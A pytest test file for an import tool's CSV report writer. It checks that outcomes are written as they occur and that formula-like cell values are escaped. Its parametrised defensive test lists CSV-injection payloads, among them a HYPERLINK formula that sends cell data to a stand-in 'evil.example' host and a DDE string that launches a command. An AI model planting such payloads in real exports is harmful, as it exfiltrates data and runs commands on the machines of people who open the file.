from __future__ import annotations

import csv
from dataclasses import astuple, fields
from pathlib import Path

import pytest

from serve_app.commands import former, imports, migrate
from serve_app.commands.reports import cell, report_to, tell_end
from serve_app.errors import ConfigurationError
from serve_app.imports import former_import, importing, migrating
from serve_app.imports.importing import Outcome


def untold(_: Outcome) -> None:
    raise AssertionError("there is a report")


def read(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as stream:
        return list(csv.DictReader(stream))


def test_a_line_a_file_as_soon_as_it_is_known(tmp_path: Path) -> None:
    with report_to(tmp_path / "r.csv", imports.REPORT, untold) as record:
        record(Outcome('a, "b".jpg', "p", "refused", "", "no_face_detected", "Nobody."))
        # Already there: what is done is kept when the import is killed.
        lines = read(tmp_path / "r.csv")
    assert lines == [
        {
            "file": 'a, "b".jpg',
            "external_id": "p",
            "status": "refused",
            "face_id": "",
            "code": "no_face_detected",
            "detail": "Nobody.",
        }
    ]


@pytest.mark.parametrize(
    "name",
    ['=HYPERLINK("http://evil.example/?"&A1,"x").jpg', "+1.jpg", "-1+cmd|' /C calc'!A0.jpg", "@SUM(1).jpg", "\t=1", "\r=1", "\n=1"],
)  # fmt: skip
def test_no_cell_is_a_formula(tmp_path: Path, name: str) -> None:
    with report_to(tmp_path / "r.csv", imports.REPORT, untold) as record:
        record(Outcome(name, name, "failed", name, name, name))
    (line,) = read(tmp_path / "r.csv")
    assert {value for column, value in line.items() if column != "status"} == {f"'{name}"}
    raw = (tmp_path / "r.csv").read_bytes()
    assert not any(one.lstrip(b'"').startswith((b"=", b"+", b"-", b"@")) for one in raw.split(b","))


def test_what_is_no_formula_stays_as_it_is() -> None:
    for text in ("", "a=b.jpg", "2024-08/a.jpg", "'quoted'", "a\n=b", " =1"):
        assert cell(text) == text


def test_columns_are_the_fields() -> None:
    for columns, outcome in (
        (imports.REPORT, importing.Outcome),
        (former._REPORT, former_import.Outcome),
        (migrate._REPORT, migrating.Outcome),
    ):
        names = tuple("file" if field.name == "shown" else field.name for field in fields(outcome))
        assert columns == names


def test_without_a_path_it_is_told(capsys: pytest.CaptureFixture[str]) -> None:
    told: list[tuple[object, ...]] = []
    with report_to(None, imports.REPORT, lambda one: told.append(astuple(one))) as record:
        record(Outcome("a", "p", "failed"))
    assert told == [("a", "p", "failed", "", "", "")]
    tell_end([("failed: [red]gave_up", 1234)], "No answer for 5 s.", "copied")
    printed = capsys.readouterr()
    assert printed.out == "  failed: [red]gave_up 1,234\n"
    assert printed.err == "No answer for 5 s. What is copied stays; run it again for the rest.\n"
    tell_end([], None, "copied")
    assert capsys.readouterr().err == ""


def test_a_report_that_cannot_be_written(tmp_path: Path) -> None:
    with pytest.raises(ConfigurationError, match="--report"), report_to(tmp_path / "no" / "r.csv", imports.REPORT, untold):
        raise AssertionError("it cannot be written")
